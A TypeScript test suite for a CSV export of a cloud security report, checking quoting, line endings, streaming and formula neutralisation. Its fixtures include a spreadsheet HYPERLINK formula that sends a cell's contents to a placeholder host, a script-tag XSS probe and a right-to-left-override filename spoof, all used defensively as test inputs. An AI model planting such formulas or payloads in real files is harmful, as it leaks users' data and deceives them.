import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { CSV_COLUMNS, CSV_FILE_NAME, renderCsv } from '../../src/report/csv.js';
import type { Report, ReportResult } from '../../src/report/schema.js';
import { demoReport } from './demo-report.js';
import { bigReport, sampleReport, XSS_EVIDENCE, XSS_NAME } from './sample.js';

type Row = Record<string, string>;

/** The documented neutralisation, restated: an apostrophe before a spreadsheet formula trigger. */
function neutralised(value: string): string {
  return /^[=+\-@\t\r\0\uFF1D\uFF0B\uFF0D\uFF20]/.test(value) ? `'${value}` : value;
}

/** Parses as a strict RFC 4180 reader would: CRLF records only, so a stray bare LF would show. */
function parseCsv(text: string): { header: string[]; rows: Row[] } {
  const records: string[][] = parse(text, { bom: true, record_delimiter: '\r\n' });
  const [header = [], ...body] = records;
  return {
    header,
    rows: body.map((cells) => Object.fromEntries(header.map((h, i) => [h, cells[i] ?? '']))),
  };
}

/** The sample's results, repeated until there is one per value, each carrying its value as its name. */
function withNames(report: Report, names: readonly string[]): Report {
  const results = names.map((name, i) => {
    const r = structuredClone(report.results[i % report.results.length] as ReportResult);
    r.resource.name = name;
    return r;
  });
  return { ...report, results };
}

/** What any UTF-8 file holds for a string: a lone surrogate cannot be encoded and becomes U+FFFD. */
function wellFormed(value: string): string {
  return value.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
}

function csvText(report: Report): string {
  return [...renderCsv(report)].join('');
}

/** Every cell of every row against the result it came from, each derived from the report itself. */
function assertRowsMatch(report: Report, rows: Row[]): void {
  assert.equal(rows.length, report.results.length, 'one row per result');
  const checks = new Map(report.checks.map((c) => [c.id, c]));
  report.results.forEach((r, i) => {
    const row = rows[i] as Row;
    const check = checks.get(r.checkId);
    assert.ok(check, `check ${r.checkId} is in the report`);
    const at = `row ${i + 1} (${r.checkId} ${r.resource.arn})`;
    assert.equal(row.finding_id, r.findingId, at);
    assert.equal(row.account_id, r.accountId, at);
    assert.equal(row.region, r.resource.region ?? '', at);
    assert.equal(row.check_id, r.checkId, at);
    assert.equal(row.check_title, neutralised(check.title), at);
    assert.equal(row.severity, r.severity, at);
    assert.equal(row.practice, r.practice, at);
    assert.equal(row.status, r.status, at);
    assert.equal(row.resource_type, r.resource.type, at);
    assert.equal(row.resource_name, neutralised(r.resource.name), at);
    assert.equal(row.resource_arn, r.resource.arn, at);
    assert.equal(row.message, neutralised(r.message), at);
    const controls = Object.entries(check.frameworks).flatMap(([f, ids]) => ids.map((id) => `${f}:${id}`));
    assert.deepEqual(row.frameworks === '' ? [] : row.frameworks?.split('; '), controls, at);
    assert.equal(row.remediation, neutralised(check.remediation.text), at);
    assert.equal(row.remediation_cli, neutralised(check.remediation.cli ?? ''), at);
    assert.deepEqual(JSON.parse(row.evidence ?? ''), r.evidence, at);
    if (r.suppression) {
      assert.ok(row.suppressed?.includes(`rule ${r.suppression.rule}`), at);
      assert.ok(row.suppressed?.includes(r.suppression.reason), at);
    } else assert.equal(row.suppressed, '', at);
    if (r.error) {
      for (const part of [r.error.code, r.error.message, r.error.operation, r.error.class]) {
        assert.ok(row.error?.includes(part), `${at}: error cell has ${part}`);
      }
    } else assert.equal(row.error, '', at);
  });
}

describe('renderCsv', () => {
  it('is written as report.csv', () => {
    assert.equal(CSV_FILE_NAME, 'report.csv');
  });

  it('writes a BOM, the header row, and one CRLF-terminated record per result of the sample report', () => {
    const report = sampleReport();
    const text = csvText(report);
    assert.ok(text.startsWith(`\uFEFF${CSV_COLUMNS.join(',')}\r\n`), 'BOM, then the header');
    assert.ok(text.endsWith('\r\n'));
    const { header, rows } = parseCsv(text);
    assert.deepEqual(header, [...CSV_COLUMNS]);
    assertRowsMatch(report, rows);
    assert.ok(
      report.results.some((r) => r.error) && report.results.some((r) => !r.resource.region),
      'the sample has an unknown result with its error and an account-wide result',
    );
  });

  it('matches every result of the demo account, every check evaluated', async () => {
    const report = await demoReport();
    const { rows } = parseCsv(csvText(report));
    assertRowsMatch(report, rows);
  });

  it('round-trips hostile names, messages and evidence: quotes, commas, newlines, markup, direction marks', () => {
    const hostile = [
      'a "quoted", comma,separated name',
      'line one\nline two\r\nline three\rend',
      '<script>alert(1)</script>',
      'order\u202Egnp.exe \u200F\u200E\u2066isolate\u2069 — ünïcødé 🚀',
      XSS_NAME,
    ];
    const report = withNames(sampleReport(), [...hostile, ...hostile]);
    report.results.forEach((r, i) => {
      r.message = hostile[(i + 1) % hostile.length] as string;
      r.evidence = { handler: XSS_EVIDENCE, note: hostile[(i + 2) % hostile.length] };
    });
    const { rows } = parseCsv(csvText(report));
    assertRowsMatch(report, rows);
    for (const name of hostile)
      assert.ok(
        rows.some((row) => row.resource_name === name),
        name,
      );
  });

  it('neutralises cells that a spreadsheet would run as formulas, and keeps the names readable', () => {
    const triggers = ['=HYPERLINK("https://x.example/?"&A1,"x")', '+1+1', '-fn', '@team', '\tTAB', '\rCR'];
    const more = ['\uFF1DSUM(1)', '\0nul'];
    const names = [...triggers, ...more];
    const report = withNames(sampleReport(), names);
    for (const r of report.results) r.message = `-${r.message}`;
    const { rows } = parseCsv(csvText(report));
    rows.forEach((row, i) => {
      const name = names[i % names.length] as string;
      assert.equal(row.resource_name, `'${name}`, 'an apostrophe makes the cell text');
      assert.equal(row.resource_name?.slice(1), name, 'and the name follows it unchanged');
      assert.ok(row.message?.startsWith("'-"));
    });
    assert.equal(rows.length, names.length, 'a row for every trigger character');
    // Not over-eager: an apostrophe-free name that only contains a trigger is left alone.
    const inner = sampleReport();
    for (const r of inner.results) r.resource.name = 'fn=1+@x-y';
    for (const row of parseCsv(csvText(inner)).rows) assert.equal(row.resource_name, 'fn=1+@x-y');
  });

  it('shows the suppression rule, reason and expiry of an accepted result', () => {
    const report = sampleReport();
    const failing = report.results.find((r) => r.status === 'fail') as ReportResult;
    failing.suppression = { rule: 3, reason: 'public site, by design', expires: '2027-03-01' };
    const { rows } = parseCsv(csvText(report));
    const row = rows.find((r) => r.finding_id === failing.findingId);
    assert.equal(row?.suppressed, 'rule 3: public site, by design (until 2027-03-01)');
    assert.equal(row?.status, 'fail', 'the status is kept');
    assertRowsMatch(report, rows);
  });

  it('streams a large report in bounded chunks, with the header once', () => {
    const report = bigReport(2500);
    const chunks = [...renderCsv(report)];
    assert.ok(chunks.length >= Math.floor(report.results.length / 1000), `${chunks.length} chunks`);
    const longest = Math.max(...chunks.map((c) => c.length));
    assert.ok(longest < 1_000_000, `longest chunk ${longest} characters`);
    const text = chunks.join('');
    assert.equal(text.split('finding_id,').length - 1, 1, 'one header row');
    assert.equal(text.split('\uFEFF').length - 1, 1, 'one BOM');
    assertRowsMatch(report, parseCsv(text).rows);
  });

  it('writes the header alone for a report without results', () => {
    const report = { ...sampleReport(), results: [] };
    const { header, rows } = parseCsv(csvText(report));
    assert.deepEqual(header, [...CSV_COLUMNS]);
    assert.equal(rows.length, 0);
  });

  it('round-trips arbitrary strings in names and messages, modulo the documented neutralisation', () => {
    const base = sampleReport();
    const special = fc.constantFrom(
      '"',
      ',',
      '\r',
      '\n',
      '\r\n',
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\0',
      "'",
      '\uFEFF',
    );
    const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((c) => String.fromCharCode(c));
    const text = fc.string({
      unit: fc.oneof(special, loneSurrogate, fc.string({ unit: 'binary', maxLength: 1 })),
    });
    fc.assert(
      fc.property(text, text, (name, message) => {
        const report = structuredClone(base);
        for (const r of report.results) {
          r.resource.name = name;
          r.message = message;
        }
        const { rows } = parseCsv(csvText(report));
        assert.equal(rows.length, report.results.length);
        for (const row of rows) {
          assert.equal(row.resource_name, neutralised(wellFormed(name)));
          assert.equal(row.message, neutralised(wellFormed(message)));
        }
      }),
      { seed: 42, numRuns: 200 },
    );
  });
});
